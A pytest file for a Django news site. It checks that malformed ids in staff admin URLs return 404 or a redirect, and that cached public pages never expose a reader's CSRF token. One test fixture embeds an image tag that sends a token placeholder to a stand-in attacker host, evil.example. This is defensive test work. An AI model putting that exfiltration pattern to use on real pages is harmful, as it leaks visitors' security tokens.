"""Malformed ids in staff URLs and forms are a 404 or a message, never a 500; editor content never
receives a reader's CSRF token."""
import pytest
from django.test import Client

from tests.factories import make_article

pytestmark = pytest.mark.django_db

MALFORMED = ["abc", "²", "1" * 30, "-1", "1.5"]


@pytest.fixture
def article():
    return make_article("Piece", slug="piece")


@pytest.fixture
def staff(staff_client):
    staff_client.raise_request_exception = False
    return staff_client


@pytest.mark.parametrize("bad", MALFORMED)
def test_entity_suggestion_with_a_malformed_article_id_is_404(staff, bad):
    response = staff.post(f"/admin/articles/article/{bad}/entity-suggestion/", {"decision": "accept", "entity": "1"})
    assert response.status_code == 404


@pytest.mark.parametrize("bad", MALFORMED)
def test_entity_suggestion_with_a_malformed_entity_id_changes_nothing(staff, article, bad):
    response = staff.post(f"/admin/articles/article/{article.pk}/entity-suggestion/",
                          {"decision": "accept", "entity": bad})
    assert response.status_code == 302
    assert not article.entity_links.exists()


@pytest.mark.parametrize("bad", MALFORMED)
def test_revision_compare_with_malformed_version_ids_is_404(staff, article, bad):
    response = staff.get(f"/admin/articles/article/{article.pk}/history/compare/?old={bad}&new={bad}")
    assert response.status_code == 404


@pytest.mark.parametrize("bad", MALFORMED)
def test_revision_and_recover_views_with_malformed_version_ids_are_not_500(staff, article, bad):
    for path in [f"/admin/articles/article/{article.pk}/history/{bad}/", f"/admin/articles/article/recover/{bad}/"]:
        assert staff.get(path).status_code in (302, 404), path


@pytest.mark.parametrize("bad", MALFORMED)
def test_admin_change_pages_with_malformed_ids_are_not_500(staff, bad):
    for model in ["article", "entity", "author"]:
        assert staff.get(f"/admin/articles/{model}/{bad}/change/").status_code in (302, 404)


def test_a_csrf_placeholder_typed_into_an_article_stays_as_typed():
    typed = "csrf-token-placeholder-5d1f0c9e7b"  # the fixed placeholder cached pages once used
    make_article("Leaky", slug="leaky", body=f'<p>{typed}</p><p><img src="https://evil.example/?t={typed}" alt=""></p>')
    client = Client()
    for _ in range(2):  # the first request renders and caches the page, the second serves it from the cache
        text = client.get("/the-peninsula/leaky/").content.decode()
        assert f"<p>{typed}</p>" in text and f"?t={typed}" in text


def test_cached_pages_carry_no_readers_token_at_all():
    """No visitor can receive another's CSRF token from the page cache: public pages hold none."""
    make_article("Piece", slug="piece")
    responses = [Client().get("/the-peninsula/piece/") for _ in range(2)]
    pages = [response.content.decode() for response in responses]
    assert all("csrfmiddlewaretoken" not in page and "csrf-placeholder-" not in page for page in pages)
    assert all("csrftoken" not in response.cookies for response in responses)
